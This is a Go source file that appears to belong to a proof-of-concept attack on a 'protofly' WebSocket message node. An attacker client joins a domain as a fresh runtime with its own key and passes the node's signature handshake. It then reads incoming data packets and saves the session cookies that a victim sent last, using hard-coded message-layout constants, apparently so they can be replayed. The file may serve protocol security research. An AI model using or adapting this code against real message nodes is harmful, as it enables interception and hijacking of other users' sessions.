package main

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"fmt"
	"sync/atomic"

	"github.com/coder/websocket"

	"github.com/protofly/protofly/plugins/msgnode-ws/wire"
	"github.com/protofly/protofly/sdk/message"
	"github.com/protofly/protofly/sdk/proof"
)

// client is a connection to the node, as a runtime with a new key.
type client struct {
	ws  *websocket.Conn
	url message.URL
	key ed25519.PrivateKey

	cookie atomic.Pointer[[]byte] // that the victim has sent last
}

// join connects as a fresh runtime of a domain, and proves its key.
func (a *attacker) join(ctx context.Context, domain string) (*client, error) {
	public, key, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return nil, err
	}
	c := &client{url: message.URL("hyperty-runtime://" + domain + "/" + proof.RuntimeID(public)), key: key}
	if c.ws, err = a.dial(ctx); err != nil {
		return nil, err
	}
	if err := c.prove(ctx); err != nil {
		c.close()
		return nil, err
	}
	return c, nil
}

// dial opens the WebSocket and proves nothing.
func (a *attacker) dial(ctx context.Context) (*websocket.Conn, error) {
	ws, _, err := websocket.Dial(ctx, a.node, &websocket.DialOptions{Subprotocols: []string{wire.Subprotocol}, HTTPClient: a.client, CompressionMode: websocket.CompressionDisabled})
	if err == nil {
		ws.SetReadLimit(wire.MaxPacket)
	}
	return ws, err
}

func (c *client) prove(ctx context.Context) error {
	_, packet, err := c.ws.Read(ctx)
	if err != nil {
		return err
	}
	_, body, _, err := wire.Next(packet)
	if err != nil {
		return err
	}
	var challenge wire.Challenge
	if err := wire.ParseHandshake(body, &challenge); err != nil {
		return err
	}
	p := wire.Proof{Runtime: c.url, Key: c.key.Public().(ed25519.PublicKey),
		Signature: ed25519.Sign(c.key, proof.MessageNode(challenge.Domain, c.url, challenge.Challenge))}
	if err := c.ws.Write(ctx, websocket.MessageBinary, wire.AppendHandshake(nil, wire.KindProof, p)); err != nil {
		return err
	}
	_, packet, err = c.ws.Read(ctx)
	if err != nil {
		return err
	}
	switch kind, body, _, err := wire.Next(packet); {
	case err != nil:
		return err
	case kind != wire.KindWelcome:
		return fmt.Errorf("refused: %s", body)
	}
	return nil
}

// drain throws away what comes, but for the last cookie, until the connection ends.
func (c *client) drain(ctx context.Context) {
	for {
		_, packet, err := c.ws.Read(ctx)
		if err != nil {
			return
		}
		for len(packet) > 0 {
			kind, body, rest, err := wire.Next(packet)
			if err != nil {
				break
			}
			packet = rest
			if _, payloads, err := wire.ParseData(body); kind == wire.KindData && err == nil {
				for p := range payloads.All() {
					if len(p) == helloHead+1+cookieSize && p[helloHead] == stepCookie {
						cookie := bytes.Clone(p[helloHead+1:])
						c.cookie.Store(&cookie)
					}
				}
			}
		}
	}
}

// The layout of a session's hello: the bytes before its step, the step that brings a cookie, the step that returns it, and the
// cookie's size.
const (
	helloHead      = 18
	stepCookie     = 4
	stepWithCookie = 5
	cookieSize     = 16
)

func (c *client) send(ctx context.Context, packet []byte) error {
	return c.ws.Write(ctx, websocket.MessageBinary, packet)
}

func (c *client) close() { _ = c.ws.CloseNow() }
